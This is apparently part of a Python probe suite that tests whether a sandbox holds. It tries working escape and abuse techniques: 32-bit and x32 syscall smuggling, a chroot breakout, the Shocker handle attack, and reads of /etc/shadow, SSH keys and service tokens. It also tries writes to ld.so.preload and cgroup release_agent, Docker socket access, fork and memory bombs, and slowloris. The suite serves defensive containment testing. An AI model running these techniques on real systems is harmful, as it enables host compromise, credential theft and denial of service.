    "x86-64 only: int 0x80 reaches 32-bit syscalls that a 64-bit filter may not see (socketcall=102, getpid=20)"
    if os.uname().machine != 'x86_64': out('n/a', os.uname().machine)
    import mmap
    pid = os.fork()
    if pid == 0:
        try:
            m = mmap.mmap(-1, 4096, prot=7); m.write(b'\xb8\x14\x00\x00\x00\xcd\x80\xc3'); f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m))); os._exit(7 if f() == os.getpid() else 8)
        except Exception: os._exit(9)
    _, st = os.waitpid(pid, 0)
    out('escaped', '32-bit getpid answered') if os.WIFEXITED(st) and os.WEXITSTATUS(st) == 7 else out('contained', st)
@p
def x32_abi():
    if os.uname().machine != 'x86_64': out('n/a')
    pid = os.fork()
    if pid == 0: r = sysc(0x40000000 + 39); os._exit(7 if r[0] > 0 else 8)
    _, st = os.waitpid(pid, 0); out('escaped', 'x32 getpid') if os.WIFEXITED(st) and os.WEXITSTATUS(st) == 7 else out('contained', st)
@p
def nnp(): out('contained') if 'NoNewPrivs:\t1' in open('/proc/self/status').read() else out('escaped', 'NoNewPrivs 0')
@p
def caps():
    s = open('/proc/self/status').read(); v = {l.split(':')[0]: int(l.split()[1], 16) for l in s.splitlines() if l.startswith('Cap')}
    bad = {k: hex(x) for k, x in v.items() if x and k in ('CapEff', 'CapPrm', 'CapBnd', 'CapAmb', 'CapInh')}
    out('escaped', bad) if bad else out('contained')
@p
def setuid_root():
    for c in (['su', '-c', 'id -u'], ['sudo', '-n', 'id', '-u'], ['newgrp'], ['pkexec', 'id', '-u']):
        try: r = subprocess.run(c, capture_output=True, timeout=5, text=True, stdin=subprocess.DEVNULL)
        except Exception: continue
        if r.stdout.strip() == '0' and os.getuid() != 0: out('escaped', c)
    out('contained')
@p
def tiocsti():
    import fcntl
    try: fd = os.open('/dev/tty', os.O_RDWR); fcntl.ioctl(fd, 0x5412, b'x'); out('escaped', 'typed into the controlling terminal')
    except OSError as e: out('contained', en(e))
@p
def clocks(): 
    b = ctypes.create_string_buffer(struct.pack('<qq', int(time.time()), 0)); denied_sys(sysc(227, 0, b))
# ---- file system -----------------------------------------------------------------------------
def can(path, mode='rb'):
    try: open(path, mode).close(); return True
    except OSError: return False
@p
def fs_read():
    bad = [f for f in ('/etc/shadow', '/root/.ssh/id_rsa', '/root/.bash_history', '/proc/kcore', '/dev/mem', '/dev/kmsg', '/var/run/secrets/kubernetes.io/serviceaccount/token', '/var/run/secrets/openshell/token', os.environ.get('HOST_SECRET', '/root/hs-secret')) if can(f)]
    out('escaped', bad) if bad else out('contained')
@p
def fs_write():
    bad = []
    for f in ('/usr/bin/hs', '/etc/hs', '/etc/ld.so.preload', '/etc/resolv.conf', '/etc/hosts', '/etc/ssl/certs/ca-certificates.crt', '/lib/hs', '/var/lib/hs', '/root/hs', '/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/sys/kernel/uevent_helper'):
        try: fd = os.open(f, os.O_WRONLY | (0 if os.path.exists(f) else os.O_CREAT), 0o600); os.close(fd); bad.append(f)
        except OSError: pass
    for f in bad:
        if f.endswith('/hs'): os.unlink(f)
    out('escaped', bad) if bad else out('contained')
@p
def fs_symlink():
    bad = []
    for t in ('/etc/shadow', os.environ.get('HOST_SECRET', '/root/hs-secret')):
        for via in (t, '/proc/self/root' + t, '/proc/1/root' + t, f'/proc/{os.getppid()}/root' + t, '/proc/self/cwd/../../../../..' + t, '/dev/fd/../../../../..' + t):
            l = tmpd() + '/l'
            try: os.symlink(via, l)
            except OSError: continue
            if can(l) or can(via): bad.append(via)
    out('escaped', bad) if bad else out('contained')
@p
def fs_hardlink():
    try: os.link('/etc/shadow', tmpd() + '/h'); out('escaped', 'linked /etc/shadow')
    except OSError as e: out('contained', en(e))
@p
def fs_handle():
    "open_by_handle_at: the Shocker escape"
    h = ctypes.create_string_buffer(struct.pack('<Ii', 8, 1) + struct.pack('<II', 2, 0)); d = os.open('/', os.O_RDONLY)
    denied_sys(sysc(304, d, h, 0))
@p
def fs_chroot():
    d = tmpd(); r = libc.chroot(d.encode()); out('contained', errno.errorcode[ctypes.get_errno()]) if r else None
    os.chdir('/') if False else None
    for _ in range(64): os.chdir('..')
    libc.chroot(b'.'); out('escaped', os.listdir('.')[:5]) if can('etc/shadow') else out('contained', 'chroot allowed, host root not reached')
@p
def fs_cgroup():
    bad = []
    for base, _, files in os.walk('/sys/fs/cgroup'):
        for f in ('release_agent', 'cgroup.procs', 'tasks', 'memory.max', 'pids.max'):
            if f in files and os.access(os.path.join(base, f), os.W_OK):
                try: os.close(os.open(os.path.join(base, f), os.O_WRONLY)); bad.append(os.path.join(base, f))
                except OSError: pass
        if len(bad) > 3: break
    out('escaped', bad) if bad else out('contained')
@p
def fs_policy():
    bad = []
    for r in ('/etc/openshell', '/opt/openshell', '/var/lib/openshell', '/run/openshell', os.environ.get('SUP_DIR', '/nonexistent')):
        for base, _, files in os.walk(r):
            for f in files:
                q = os.path.join(base, f)
                if os.access(q, os.W_OK): bad.append('w ' + q)
                elif can(q) and ('key' in f or 'token' in f or 'secret' in f): bad.append('r ' + q)
    out('escaped', bad[:5]) if bad else out('contained')
# ---- IPC -----------------------------------------------------------------------------------
@p
def unix_abstract(name='hs-host'):
    s = sock(socket.AF_UNIX)
    try: s.connect('\0' + name)
    except OSError as e: out('contained', en(e))
    out('escaped', 'reached an abstract socket of the host')
@p
def unix_paths():
    bad = []
    for q in ('/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/dbus/system_bus_socket', '/run/podman/podman.sock', '/run/systemd/private', '/tmp/.X11-unix/X0', os.environ.get('SSH_AUTH_SOCK', '/x'), os.environ.get('SUP_SOCK', '/x'), os.environ.get('HOST_SOCK', '/tmp/hs-host.sock')):
        try: s = socket.socket(socket.AF_UNIX); s.connect(q); bad.append(q)
        except OSError: pass
    out('escaped', bad) if bad else out('contained')
@p
def sysv():
    try: t = open('/proc/sysvipc/shm').read().splitlines()[1:]
    except OSError as e: out('contained', en(e))
    out('escaped', t[:2]) if t else out('contained', 'private IPC namespace')
# ---- credentials ---------------------------------------------------------------------------
@p
def env_secret(): out('escaped', [k for k, v in os.environ.items() if CANARY in v and k != 'CANARY']) if any(CANARY in v for k, v in os.environ.items() if k != 'CANARY') else out('contained')
@p
def placeholder_other_host():
    "a placeholder sent to a host it is not bound to must not be replaced"
    ph = os.environ.get('PLACEHOLDER', 'openshell:resolve:env:API_KEY'); b = px(f'GET http://{ALLOWED}/public/echo HTTP/1.1\r\nHost: {ALLOWED}\r\nAuthorization: Bearer {ph}\r\nX-T: {ph}\r\nConnection: close\r\n\r\n'.encode())[1]
    out('escaped', 'the secret came back') if CANARY.encode() in b else out('contained', b[:60])
# ---- resources -----------------------------------------------------------------------------
@p
def fork_bomb(n='5000'):
    k = 0
    try:
        for _ in range(int(n)):
            q = os.fork()
            if q == 0: time.sleep(5); os._exit(0)
            k += 1
    except OSError as e: out('contained', f'{k} children then {en(e)}')
    out('escaped', f'{k} children')
@p
def mem_bomb(mb='8192'):
    q = os.fork()
    if q == 0:
        x = []
        try:
            for _ in range(int(mb) // 64): x.append(bytearray(os.urandom(1) * (64 << 20)))
        except MemoryError: os._exit(3)
        os._exit(0)
    _, st = os.waitpid(q, 0); out('escaped', f'{mb} MiB touched') if st == 0 else out('contained', f'status {st:#x}')
@p
def conn_flood(n='2000'):
    ss = []
    for _ in range(int(n)):
        try: s = socket.socket(); s.settimeout(1); s.connect(PROXY); ss.append(s)
        except OSError: break
    s = sock(); 
    try: s.connect((LAB, 80)); s.sendall(http(DENIED)); b = rx(s)
    except OSError as e: out('contained', f'{len(ss)} open, still closed: {en(e)}')
    judge_reply(b)
@p
def slowloris(): 
    s, b = px(b'GET http://', read=False); time.sleep(70)
    try: s.sendall(b'x'); s.sendall(b'y'); s.settimeout(1); d = s.recv(10)
    except OSError: d = b''
    out('contained', 'closed by the proxy') if d == b'' or b'408' in d or b'400' in d else out('escaped', 'half a request kept 70 s')

LOCAL = set('raw-ip packet vsock af-alg nft-flush iouring netlink-route id-overwrite id-mem-write sup-ptrace sup-kill sup-environ sup-fds pidfd-getfd userns netns clone3-userns setns-pid1 bpf perf keyring uffd mount-tmpfs new-mount-api umount-proc mknod-disk i386-abi x32-abi nnp caps setuid-root tiocsti clocks fs-read fs-write fs-symlink fs-hardlink fs-handle fs-chroot fs-cgroup fs-policy unix-abstract unix-paths sysv env-secret fork-bomb mem-bomb'.split())
if __name__ == '__main__':
    if len(sys.argv) < 2 or sys.argv[1] not in P: print(' '.join(sorted(P))); sys.exit(64)
    if not E('IN_SANDBOX'): out('n/a', 'set IN_SANDBOX=1, inside a sandbox only: as root on a bare machine some probes do harm')
    if sys.argv[1] not in LOCAL and not LAB: out('n/a', 'LAB_IP is not set: network probes run only inside a lab')
    try: P[sys.argv[1]](*sys.argv[2:])
    except SystemExit: raise
    except BaseException as e: out('n/a', f'{type(e).__name__}: {e}')
    out('n/a', 'no verdict')
